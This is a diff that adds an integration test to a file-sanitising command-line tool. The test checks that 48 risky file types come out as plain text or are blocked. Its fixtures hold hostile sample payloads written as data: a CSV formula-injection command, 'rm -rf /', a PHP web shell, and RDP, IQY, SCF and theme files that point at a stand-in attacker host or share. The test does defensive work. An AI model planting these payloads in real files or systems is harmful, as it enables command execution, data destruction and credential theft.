@@ -3,6 +3,7 @@
 #include <sys/stat.h>
 #include <sys/wait.h>
 
+#include <algorithm>
 #include <array>
 #include <catch2/catch.hpp>
 #include <cstdio>
@@ -387,4 +388,89 @@ TEST_CASE("cli: -o never replaces a device, FIFO or symbolic link, -o - is stand
     REQUIRE_FALSE(fs::exists("-"));
   }
 
+}
+
+TEST_CASE("cli: mugai file on 48 text-like extensions delivers a name that opens as text, or nothing", "[integration]") {
+  // Issue 10, class 1. Windows' own file associations are the reference: each of these opens in
+  // something other than a text editor (or runs), so a file kept as text must arrive as *.txt
+  // (or under an extension Notepad/Excel-as-CSV open), or not at all.
+  struct Case {
+    const char* ext;
+    std::string data;
+  };
+  const std::string words = "meeting notes for the budget review\n";
+  std::vector<Case> cases = {
+      {"rdp", "full address:s:evil.example.com\ndrivestoredirect:s:*\n"},
+      {"iqy", "WEB\n1\nhttp://evil.example.com/q\n"},
+      {"theme", "[Control Panel\\Desktop]\nWallpaper=\\\\evil\\share\\a.bmp\n"},
+      {"py", "import os\nos.system('calc')\n"},
+      {"pyw", "import os\nos.system('calc')\n"},
+      {"csv", "a,=cmd|' /C calc'!A0\n"},
+      {"tsv", "a\t=1+1\n"},
+      {"slk", "ID;P\nC;Y1;X1;K1\nE\n"},
+      {"url", "[InternetShortcut]\nURL=file://evil/x.exe\n"},
+      {"website", "[InternetShortcut]\nURL=http://evil.example.com/\n"},
+      {"ps1", "Start-Process calc\n"},
+      {"psm1", "function x { Start-Process calc }\n"},
+      {"vbs", "CreateObject(\"WScript.Shell\").Run \"calc\"\n"},
+      {"js", "new ActiveXObject('WScript.Shell').Run('calc');\n"},
+      {"jse", words},
+      {"wsf", "<job><script language=\"VBScript\">MsgBox 1</script></job>\n"},
+      {"hta", "<hta:application/><script>alert(1)</script>\n"},
+      {"bat", "@echo off\ncalc.exe\n"},
+      {"cmd", "calc.exe\n"},
+      {"reg", "Windows Registry Editor Version 5.00\n[HKEY_CURRENT_USER\\x]\n"},
+      {"inf", "[Version]\nSignature=\"$CHICAGO$\"\n"},
+      {"ini", "[section]\nkey=value\n"},
+      {"scf", "[Shell]\nCommand=2\nIconFile=\\\\evil\\share\\icon.ico\n"},
+      {"lnk", words},
+      {"xml", "<?xml version=\"1.0\"?><a>hi</a>\n"},
+      {"svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>\n"},
+      {"htm", "<p>hi</p>\n"},
+      {"html", "<html><body onload=\"alert(1)\">hi</body></html>\n"},
+      {"mht", "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\n\n<p>x</p>\n--b--\n"},
+      {"eml", "From: a@example.com\nSubject: hi\n\nbody\n"},
+      {"ics", "BEGIN:VCALENDAR\nVERSION:2.0\nBEGIN:VEVENT\nSUMMARY:x\nEND:VEVENT\nEND:VCALENDAR\n"},
+      {"vcf", "BEGIN:VCARD\nVERSION:3.0\nFN:Taro\nEND:VCARD\n"},
+      {"json", "{\"a\": 1}\n"},
+      {"yaml", "a: 1\n"},
+      {"log", "12:00 started\n"},
+      {"md", "# Title\n\ntext\n"},
+      {"txt", words},
+      {"sct", "<scriptlet><script>x</script></scriptlet>\n"},
+      {"wsc", "<component><script>x</script></component>\n"},
+      {"xsl", "<xsl:stylesheet version=\"1.0\"/>\n"},
+      {"vb", "MsgBox 1\n"},
+      {"ws", words},
+      {"sh", "#!/bin/sh\nrm -rf /\n"},
+      {"php", "<?php system($_GET['c']); ?>\n"},
+      {"settingcontent-ms", words},
+      {"searchconnector-ms", "<searchConnectorDescription/>\n"},
+      {"desktop", "[Desktop Entry]\nExec=calc\n"},
+      {"config", "<configuration/>\n"},
+  };
+  REQUIRE(cases.size() >= 40);
+  const std::vector<std::string> opens_as_text = {"txt", "csv", "tsv", "log", "md", "json", "yaml", "ini"};
+  mugai::test::TempDir dir;
+  for (const auto& c : cases) {
+    auto in = dir.path() / (std::string("sample.") + c.ext);
+    auto out = dir.path() / (std::string("out-") + c.ext);
+    fs::create_directory(out);
+    mugai::test::writeFile(in, c.data);
+    auto r = runMugai("file " + q(in) + " -o " + q(out) + " --report " + q(dir.path() / "r.json"));
+    INFO(c.ext << ": " << r.out);
+    REQUIRE((r.status == 0 || r.status == 3));
+    std::vector<fs::path> written;
+    for (const auto& e : fs::directory_iterator(out)) written.push_back(e.path());
+    if (written.empty()) continue;  // removed or blocked
+    REQUIRE(written.size() == 1);
+    std::string ext = written[0].extension().string().substr(1);
+    auto type = json(dir.path() / "r.json");
+    bool text_ok = std::find(opens_as_text.begin(), opens_as_text.end(), ext) != opens_as_text.end();
+    // Calendars and contacts keep their names for the ICS/VCF rules (issue 10, class 6).
+    bool own_type = (ext == "ics" && c.data.find("VCALENDAR") != std::string::npos) ||
+                    (ext == "vcf" && c.data.find("VCARD") != std::string::npos);
+    INFO("delivered as " << written[0].filename());
+    CHECK((text_ok || own_type));
+  }
 }
